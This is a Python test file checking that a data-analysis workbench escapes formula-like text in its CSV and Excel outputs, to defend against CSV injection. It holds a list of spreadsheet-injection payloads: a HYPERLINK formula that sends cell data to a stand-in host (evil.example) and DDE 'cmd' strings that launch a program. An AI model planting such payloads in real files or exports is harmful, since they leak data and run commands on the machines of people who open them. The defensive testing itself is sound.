"""Every CSV and workbook the workbench writes stores formula-like text as text (OWASP CSV injection).

Text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
run by spreadsheets. The data-quality CSV quotes file names, column headers
and values from agencies' returns; the Excel templates hold indicator titles
and names from ``parameters/``. Both go through :mod:`lscb_analysis.atomic`:
a leading ``'`` in CSV, text with Excel's quote prefix in workbooks. Numbers
stay numbers.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from lscb_analysis.atomic import FORMULA_TRIGGERS, atomic_write_csv, formula_safe, looks_like_formula, set_cell
from lscb_analysis.ingest import ingest_quarters
from lscb_analysis.periods import Quarter
from lscb_analysis.publish.quality_pages import write_quality_pages
from lscb_analysis.returns.templates import write_templates

Q = Quarter(2026, 2)
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for the figures")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


# ------------------------------------------------------------------ the rule
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_trigger_is_escaped_with_a_quote(payload: str) -> None:
    assert looks_like_formula(payload)
    assert formula_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", ["police.csv", "Row 11: -5 is negative", "a=b", " =1", "", 12, -5, -0.5, None])
def test_other_values_and_numbers_are_left_alone(value: object) -> None:
    assert not looks_like_formula(value)
    assert formula_safe(value) is value


def test_the_csv_writer_escapes_text_and_headers_but_not_numbers(tmp_path: Path) -> None:
    """A carriage return inside a value is quoted, so it cannot start a new row either."""
    frame = pd.DataFrame(
        {
            "=header": ["x", "y", "z", "w", "v", "u"],
            "text": PAYLOADS,
            "count": [-5, 3, -1, 0, 7, -2],
            "rate": [-0.5, 1.5, None, 2.0, -3.25, 0.0],
            "label": pd.array(["-1 child", "a", None, "@x", "b", "c"], dtype="string"),
        }
    )
    f = atomic_write_csv(tmp_path / "out.csv", frame)
    head, *rows = _csv_cells(f)
    assert head == ["'=header", "text", "count", "rate", "label"]
    assert [r[1] for r in rows] == ["'" + p for p in PAYLOADS]
    assert [r[2] for r in rows] == ["-5", "3", "-1", "0", "7", "-2"]  # numbers, not text
    assert [r[3] for r in rows] == ["-0.5", "1.5", "", "2.0", "-3.25", "0.0"]
    assert [r[4] for r in rows] == ["'-1 child", "a", "", "'@x", "b", "c"]
    back = pd.read_csv(f)
    assert back["count"].tolist() == [-5, 3, -1, 0, 7, -2]


def test_the_workbook_writer_stores_formula_like_text_as_text(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    for r, p in enumerate(PAYLOADS, start=1):
        set_cell(ws.cell(r, 1), p)
    set_cell(ws.cell(1, 2), -5)
    set_cell(ws.cell(2, 2), "plain")
    wb.save(tmp_path / "x.xlsx")
    with zipfile.ZipFile(tmp_path / "x.xlsx") as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    back = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    for r, p in enumerate(PAYLOADS, start=1):
        c = back.cell(r, 1)
        # the text as written; a carriage return may come back as a line feed (XML's line-end normalisation:
        # the standard library's parser applies it, lxml, which openpyxl uses when installed, keeps "\r")
        assert (c.value.replace("\r", "\n"), c.data_type, c.quotePrefix) == (p.replace("\r", "\n"), "s", True)
    assert (back.cell(1, 2).value, back.cell(1, 2).data_type) == (-5, "n")
    assert back.cell(2, 2).quotePrefix is False


# ------------------------------------------------------------- the writers
def test_the_data_quality_csv_escapes_a_hostile_header_and_quotes(project: Path) -> None:
    police = project / "data" / "raw" / "returns" / "demo" / Q.slug / "police.csv"
    with open(police, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    header = PAYLOADS[0]
    for r in rows:
        r[header] = "x"
    rows[9]["numerator"] = PAYLOADS[3]
    with open(police, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    res = ingest_quarters([Q], project)
    assert {"R009-extra-column", "R020-not-a-number"} <= {f.rule for f in res.findings}
    _, csv_file = write_quality_pages([Q], project)[Q]
    cells = [c for row in _csv_cells(csv_file) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)], "a cell a spreadsheet would run"
    extra = next(f for f in res.findings if f.rule == "R009-extra-column")
    assert extra.column.startswith(header[:30])  # the findings keep the (excerpted) value; the CSV escapes it
    assert "'" + extra.column in cells


def test_templates_write_hostile_titles_and_names_as_text(project: Path, tmp_path: Path) -> None:
    indicators = project / "parameters" / "indicators.yaml"
    text = indicators.read_text(encoding="utf-8")
    title = "    title: Children reported to the police as missing from home\n"
    assert title in text
    evil = PAYLOADS[0].replace('"', '\\"')
    indicators.write_text(text.replace(title, f'    title: "{evil}"\n'), encoding="utf-8")
    providers = project / "parameters" / "providers.yaml"
    ptext = providers.read_text(encoding="utf-8")
    m = re.search(r"(?m)^(\s+contact_role:\s*)(.+)$", ptext)
    assert m
    providers.write_text(ptext[: m.start(2)] + '"@SUM(1+9)*cmd"' + ptext[m.end(2) :], encoding="utf-8")
    files = write_templates(Q, project, out=tmp_path)
    police = tmp_path / "police.xlsx"
    assert police in files
    for f in files:
        with zipfile.ZipFile(f) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert not re.search(r"<f[ >]", z.read(name).decode()), f"{f.name} {name} holds a formula"
    wb = openpyxl.load_workbook(police)
    hits = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == PAYLOADS[0]]
    assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits)
    roles = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == "@SUM(1+9)*cmd"]
    assert all(c.data_type == "s" and c.quotePrefix for c in roles)
